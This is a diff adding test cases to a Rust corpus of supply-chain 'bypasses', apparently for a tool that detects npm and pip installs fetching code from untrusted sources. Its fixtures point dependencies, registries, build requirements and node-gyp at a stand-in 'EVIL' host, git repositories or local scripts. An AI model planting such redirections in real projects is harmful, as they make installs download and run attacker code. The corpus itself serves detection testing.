@@ -180,6 +180,18 @@ fn bypass_corpus() -> Vec<Bypass> {
         b(".npmrc with ${VAR}", "npm", &["install", "@evil/pkg"], &[("EVIL_URL", "EVIL/")], &[("work/.npmrc", "@evil:registry=${EVIL_URL}\n")], ".npmrc:1"),
         b("global npmrc scope", "npm", &["install", "@evil/pkg"], &[], &[("etc/npmrc", "@evil:registry=EVIL/\n")], "npmrc:1"),
         b(".npmrc in a parent package root", "npm", &["install", "@evil/pkg"], &[], &[("work/.npmrc", "@evil:registry=EVIL/\n"), ("work/sub/.keep", "")], ".npmrc:1"),
+        // npm: the manifests of the project (no lockfile): git and URL
+        // dependencies, its workspaces', a local directory's.
+        b("package.json github: dependency", "npm", &["install"], &[], &[("work/package.json", "{\n  \"dependencies\": {\n    \"x\": \"github:evil/pkg\"\n  }\n}\n")], "package.json:3 declares the dependency `x` from git: github:evil/pkg"),
+        b("package.json user/repo dependency", "npm", &["install"], &[], &[("work/package.json", "{\"devDependencies\": {\"x\": \"evil/pkg#main\"}}")], "`x` from git: evil/pkg#main"),
+        b("package.json git+http dependency", "npm", &["install", "pw-reg-app"], &[], &[("work/package.json", "{\"optionalDependencies\": {\"x\": \"git+EVIL/x.git\"}}")], "`x` from git: git+http://EVIL"),
+        b("package.json git+ssh, gitlab:, bitbucket:, gist:", "npm", &["ci"], &[], &[("work/package.json", "{\"dependencies\": {\"a\": \"git+ssh://git@git.example.com/a.git\", \"b\": \"gitlab:e/b\", \"c\": \"bitbucket:e/c\", \"d\": \"gist:0123abc\", \"e\": \"git://git.example.com/e.git\"}}")], "`d` from git: gist:0123abc"),
+        b("package.json URL dependency", "npm", &["install"], &[], &[("work/package.json", "{\"dependencies\": {\"x\": \"EVIL/x.tgz\"}}")], "`x` as http://EVIL"),
+        b("workspace package.json git dependency", "npm", &["install"], &[], &[("work/package.json", "{\"workspaces\": [\"packages/*\"]}"), ("work/packages/a/package.json", "{\"name\": \"a\", \"dependencies\": {\"y\": \"github:evil/y\"}}")], "packages/a/package.json:1"),
+        b("file: directory's git dependency", "npm", &["install"], &[], &[("work/package.json", "{\"dependencies\": {\"l\": \"file:../lib\"}}"), ("lib/package.json", "{\"name\": \"l\", \"dependencies\": {\"y\": \"github:evil/y\"}}")], "lib/package.json:1"),
+        b("--prefix project's git dependency", "npm", &["install", "--prefix", "../other"], &[], &[("other/package.json", "{\"dependencies\": {\"y\": \"github:evil/y\"}}")], "other/package.json:1"),
+        b("project .npmrc node-gyp", "npm", &["install"], &[], &[("work/.npmrc", "node-gyp=./tools/build.sh\n")], ".npmrc:1"),
+        b("npm_config_node_gyp", "npm", &["install"], &[("NPM_CONFIG_NODE_GYP", "/tmp/build.sh")], &[], "NPM_CONFIG_NODE_GYP"),
         // npm: lockfile.
         b("package-lock resolved", "npm", &["ci"], &[], &[("work/package-lock.json", "{\n \"lockfileVersion\": 3,\n \"packages\": {\n  \"\": {\"name\":\"app\"},\n  \"node_modules/x\": {\n   \"version\": \"1.0.0\",\n   \"resolved\": \"EVIL/x/-/x-1.0.0.tgz\"\n  }\n }\n}\n")], "package-lock.json:7"),
         b("npm-shrinkwrap resolved", "npm", &["install"], &[], &[("work/npm-shrinkwrap.json", "{\"lockfileVersion\":1,\"dependencies\":{\"x\":{\"version\":\"1.0.0\",\"resolved\":\"EVIL/x.tgz\"}}}")], "npm-shrinkwrap.json"),
@@ -205,6 +217,10 @@ fn bypass_corpus() -> Vec<Bypass> {
         b("PIP_TRUSTED_HOST", "pip", &["install", "six"], &[("PIP_TRUSTED_HOST", "127.0.0.1")], &[], "PIP_TRUSTED_HOST"),
         b("PIP_CONFIG_FILE find-links", "pip", &["install", "six"], &[("PIP_CONFIG_FILE", "ALT_PIPCONF")], &[("ALT_PIPCONF", "[global]\nfind-links = EVIL/links\n")], "ALT_PIPCONF:2"),
         b("PIP_CONFIG_FILE install section", "pip", &["install", "six"], &[("PIP_CONFIG_FILE", "ALT_PIPCONF")], &[("ALT_PIPCONF", "[install]\nextra-index-url =\n    EVIL/simple\n")], "ALT_PIPCONF:2"),
+        b("PIP_CONSTRAINT file's index", "pip", &["install", "six"], &[("PIP_CONSTRAINT", "cons.txt")], &[("work/cons.txt", "--extra-index-url EVIL/simple\n")], "cons.txt:1"),
+        b("PIP_REQUIREMENT file's URL", "pip", &["install", "six"], &[("PIP_REQUIREMENT", "a.txt req.txt")], &[("work/a.txt", "six\n"), ("work/req.txt", "six @ EVIL/six.whl\n")], "req.txt:1"),
+        b("pip install . whose build-system requires a URL", "pip", &["install", "."], &[], &[("work/pyproject.toml", "[project]\nname = \"app\"\nversion = \"0.1\"\n\n[build-system]\nrequires = [\"setuptools @ EVIL/setuptools-70.0-py3-none-any.whl\"]\nbuild-backend = \"setuptools.build_meta\"\n")], "pyproject.toml:6"),
+        b("pip install -e DIR with a git dependency", "pip", &["install", "-e", "sub"], &[], &[("work/sub/pyproject.toml", "[project]\nname = \"sub\"\nversion = \"0.1\"\ndependencies = [\"six @ git+EVIL/six.git\"]\n")], "sub/pyproject.toml:4"),
         // pip: requirement files.
         b("requirements -i", "pip", &["install", "-r", "req.txt"], &[], &[("work/req.txt", "-i EVIL/simple\nsix\n")], "req.txt:1"),
         b("requirements --extra-index-url", "pip", &["install", "-r", "req.txt"], &[], &[("work/req.txt", "six\n--extra-index-url EVIL/simple\n")], "req.txt:2"),
